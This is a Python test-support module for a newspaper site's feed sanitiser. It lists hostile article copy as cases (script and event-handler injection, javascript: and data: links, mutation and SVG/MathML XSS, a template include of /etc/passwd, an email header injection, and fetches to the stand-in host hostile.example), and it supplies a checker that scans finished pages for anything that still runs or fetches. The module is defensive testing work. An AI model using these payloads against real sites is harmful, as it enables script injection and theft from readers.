"""Copy that means harm, and a judge of what is left of it in a finished page.

The copy is the feed sanitiser's cases beside the repository (../shared/samples/feeds) where they are, and always a
list of our own: what a writer, a contributor or another paper's wire might send as article, headline or caption.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit
from xml.etree import ElementTree as ET

import tinyhtml5
from lxml import etree

from broadsheet.outlets.web.scripts import theme_switch

SWITCH = theme_switch().decode()
"""The one script that pages hold themselves, to the letter; the site's policy names its digest."""

SAMPLES = Path(__file__).resolve().parents[2].parent / "shared" / "samples" / "feeds" / "sanitize-sample"
CARRIERS = frozenset(
    (
        "content",
        "summary",
        "title",
        "subtitle",
        "tagline",
        "info",
        "copyright",
        "description",
        "body",
        "encoded",
        "fullitem",
    )
)
MARK = "hostile.example"
"""The host every address of our own cases points to."""
OWN = {
    "script": f"<script src='https://{MARK}/x.js'></script><script>document.title='taken'</script>",
    "script-broken": "<scr<script>ipt>document.title='taken'</scr</script>ipt>",
    "script-in-data": "</script><script>document.title='taken'</script>",
    "handler": "<img src=x onerror=\"document.title='taken'\">",
    "handler-slash": "<svg/onload=document.title='taken'>",
    "handler-in-attribute": '" onmouseover="document.title=\'taken\'" x="',
    "handler-in-single-quotes": "' autofocus onfocus='document.title=1' x='",
    "address-script": "[a link](javascript:document.title='taken') <a href=\"java&#9;script:document.title=1\">x</a>",
    "address-control": "<a href='\x01javascript:document.title=1'>x</a>",
    "address-data": (
        "<a href='data:text/html,<script>document.title=1</script>'>x</a> [y](data:text/html;base64,PHNjcmlwdD4=)"
    ),
    "address-vbscript": "[x](vbscript:msgbox) <a href='vbscript:msgbox'>y</a>",
    "picture": f"![pixel](https://{MARK}/pixel.gif) <img srcset='https://{MARK}/a.png 2x' src='//{MARK}/b.png'>",
    "style": f"<style>@import 'https://{MARK}/x.css'; body {{ background: url(https://{MARK}/y.png) }}</style>",
    "style-attribute": f"<p style=\"background: url('https://{MARK}/z.png'); position: fixed; inset: 0\">x</p>",
    "style-end": "</style><script>document.title='taken'</script>",
    "frame": (
        f"<iframe src='https://{MARK}/'></iframe><iframe srcdoc='<script>parent.document.title=1</script>'></iframe>"
    ),
    "object": (
        f"<object data='https://{MARK}/x.swf'></object><embed src='https://{MARK}/x.swf'><applet code=X></applet>"
    ),
    "base": f"<base href='https://{MARK}/'>",
    "refresh": f"<meta http-equiv=refresh content='0; url=https://{MARK}/'>",
    "link": (
        f"<link rel=stylesheet href='https://{MARK}/x.css'><link rel=preload as=image href='https://{MARK}/x.png'>"
    ),
    "form": (
        f"<form action='https://{MARK}/'><input name=password>"
        "<button formaction='javascript:alert(1)'>x</button></form>"
    ),
    "media": (
        f"<video src='https://{MARK}/x.mp4' poster='https://{MARK}/x.png'></video><audio src='//{MARK}/x.ogg' autoplay>"
    ),
    "vector": "<svg><animate attributeName=href values=javascript:alert(1) /><a><text y=20>x</text></a></svg>",
    "vector-foreign": "<svg><foreignObject><script>document.title='taken'</script></foreignObject></svg>",
    "mathematics": (
        "<math><mtext><table><mglyph><style><img src=x onerror=document.title='taken'></style></mglyph></table>"
    ),
    "mutation": "<noscript><p title=\"</noscript><img src=x onerror=document.title='taken'>\"></noscript>",
    "comment": "<!--><img src=x onerror=document.title='taken'>--><!-- --!><script>document.title='taken'</script> -->",
    "comment-end": "--><script>document.title='taken'</script>",
    "cdata-end": "]]><script>document.title='taken'</script>",
    "title-end": "</title><script>document.title='taken'</script>",
    "textarea-end": "</textarea></title></style></template><img src=x onerror=document.title='taken'>",
    "entities": "&lt;script&gt;document.title='taken'&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "template": "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} <%= 7 * 7 %> {{ config }}",
    "shadow": "<div><template shadowrootmode=open><script>document.title='taken'</script></template></div>",
    "identity": "<a id=head name=body></a><form id=documentElement><input name=children></form>",
    "direction": "Vote \u202eoN rof\u202c now \u2066hidden\u2069 \ufeff",
    "control": "A\x00B\x08C\x0bD\x1bE\x7fF\ud7ffG\ufffeH",
    "newlines": "One\r\nSubject: two\r\n\r\nBcc: three@hostile.example",
    "long-word": "W" * 4000,
    "deep": "<b>" * 300 + "x" + "> " * 300,
}
"""Name → what is sent in."""

EXECUTED = frozenset({"object", "embed", "applet", "iframe", "frame", "frameset", "base", "portal"})
REQUESTS = {
    "img": ("src", "srcset"),
    "source": ("src", "srcset"),
    "video": ("src", "poster"),
    "audio": ("src",),
    "track": ("src",),
    "script": ("src",),
    "input": ("src",),
    "image": ("href",),
    "use": ("href",),
    "form": ("action",),
    "button": ("formaction",),
    "body": ("background",),
    "table": ("background",),
    "td": ("background",),
}
"""Element → attributes that make the browser ask for something, or send something."""
FETCHED = frozenset(
    (
        *("stylesheet", "icon", "apple-touch-icon", "mask-icon", "manifest"),
        *("preload", "prefetch", "modulepreload", "preconnect", "dns-prefetch", "prerender"),
    )
)
"""The relations of a ``link`` that make the browser fetch or connect."""
DATA_TYPES = frozenset({"application/ld+json", "application/json", "speculationrules"})
BLANKS = re.compile(r"[\x00-\x20\x7f-\xa0\u200b-\u200f\u2028-\u202e\ufeff]+")
DANGEROUS = re.compile(r"^(javascript|vbscript|livescript|file|blob|filesystem|jar|view-source):", re.IGNORECASE)
STYLED = re.compile(r"url\(\s*['\"]?([^'\")]+)|@import\s+['\"]([^'\"]+)", re.IGNORECASE)
BEHAVIOUR = re.compile(r"expression\s*\(|-moz-binding|behaviou?r\s*:|javascript:", re.IGNORECASE)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One case: a name for the test's report, and the text to send in."""

    name: str
    markup: str


def hostile_copy() -> tuple[Hostile, ...]:
    """All cases in order: our own, then the sanitiser's where they are at hand."""
    own = (Hostile(name, text) for name, text in OWN.items())
    return (*own, *(case for path in sorted(SAMPLES.glob("*.xml")) for case in _sample(path)))


def _sample(path: Path) -> Iterator[Hostile]:
    """The texts of a feed, as a program that trusts them would read them."""
    root = etree.parse(str(path), etree.XMLParser(recover=True, resolve_entities=False, no_network=True)).getroot()
    carriers = [part for part in root.iter(etree.Element) if etree.QName(part).localname in CARRIERS]
    texts = dict.fromkeys(filter(None, map(_markup, carriers)))
    yield from (Hostile(f"{path.stem}-{number}", text) for number, text in enumerate(texts, 1))


def _markup(part: etree._Element) -> str:
    """The text of an element, or its children as markup."""
    inside = "".join(etree.tostring(child, encoding="unicode") for child in part)
    return ((part.text or "") + inside).strip()


def survivors(page: str, own: tuple[str, ...] = ()) -> tuple[str, ...]:
    """What in a page runs, or asks another host for something, as sentences; empty where nothing does.

    ``own`` are the site's own addresses (``https://harbour.example/``); what is relative is the site's own. Links that
    wait for a click may go anywhere, but only to pages. The page is read as a browser reads it (HTML Living Standard).
    """
    scripted = re.sub(r"(</?)noscript\b", r"\1noframes", page, flags=re.IGNORECASE)
    return tuple(dict.fromkeys((*_read(page, own), *_read(scripted, own))))


def _read(page: str, own: tuple[str, ...]) -> Iterator[str]:
    """What survives in a page parsed without scripts; ``noframes`` is raw text, as ``noscript`` is with them."""
    root = tinyhtml5.parse(page, namespace_html_elements=False)
    yield from (found for element in root.iter() if isinstance(element.tag, str) for found in _alive(element, own))


def _alive(element: ET.Element, own: tuple[str, ...]) -> Iterator[str]:
    """What is wrong with one element."""
    name = element.tag.rpartition("}")[2].lower()
    attributes = {str(key).rpartition("}")[2].rpartition(":")[2].lower(): value for key, value in element.items()}
    if name in EXECUTED:
        yield f"<{name}>"
    if name == "script":
        yield from _script(element, attributes)
    if name == "style":
        yield from _styled(element.text or "", own)
    if name == "meta" and attributes.get("http-equiv", "").strip().lower() == "refresh":
        yield f"<meta refresh {attributes.get('content', '')}>"
    yield from _requests(name, attributes, own)
    yield from _attributes(name, attributes, own)


def _script(element: ET.Element, attributes: dict[str, str]) -> Iterator[str]:
    """A script written in the page; data must be data."""
    kind = attributes.get("type", "").strip().lower()
    if kind not in DATA_TYPES:
        if "src" not in attributes and element.text != SWITCH:
            yield f"<script>{(element.text or '').strip()[:60]}"
        return
    try:
        json.loads(element.text or "")
    except ValueError as error:
        yield f"<script type={kind}> is no JSON: {error}"


def _requests(name: str, attributes: dict[str, str], own: tuple[str, ...]) -> Iterator[str]:
    """Addresses asked by themselves that are another's."""
    asked = [attributes.get(key, "") for key in REQUESTS.get(name, ())]
    if name == "link" and FETCHED & set(attributes.get("rel", "").lower().split()):
        asked.append(attributes.get("href", ""))
    for value in asked:
        for address in re.split(r"\s*,\s+|\s+(?=[\d.]+[wx]\b)", value) if " " in value else [value]:
            if _foreign(address, own):
                yield f"<{name}> asks {address[:80]}"


def _attributes(name: str, attributes: dict[str, str], own: tuple[str, ...]) -> Iterator[str]:
    """Handlers, addresses that run, styles that fetch, frames and shadows in attributes."""
    for key, value in attributes.items():
        bare = BLANKS.sub("", value)
        opened = key == "href" and name != "link" and bare.lower().startswith("data:")
        if key.startswith("on") or key in {"srcdoc", "shadowrootmode", "ping"} or DANGEROUS.match(bare) or opened:
            yield f"<{name} {key}={value[:60]!r}>"
        elif key == "style":
            yield from _styled(value, own)


def _styled(text: str, own: tuple[str, ...]) -> Iterator[str]:
    """What a style fetches or runs."""
    asked = ("".join(found) for found in STYLED.findall(text))
    yield from (f"style asks {address[:80]}" for address in asked if _foreign(address, own))
    yield from (f"style runs {found}" for found in BEHAVIOUR.findall(text))


def _foreign(address: str, own: tuple[str, ...]) -> bool:
    """Whether an address names another host; pictures written into the page ask nobody."""
    bare = BLANKS.sub("", address).replace("\\", "/")
    if bare.lower().startswith(("data:image/", "data:font/", "data:,")):
        return False
    return bool(urlsplit(bare).scheme or bare.startswith("//")) and not bare.startswith(own or ("\0",))
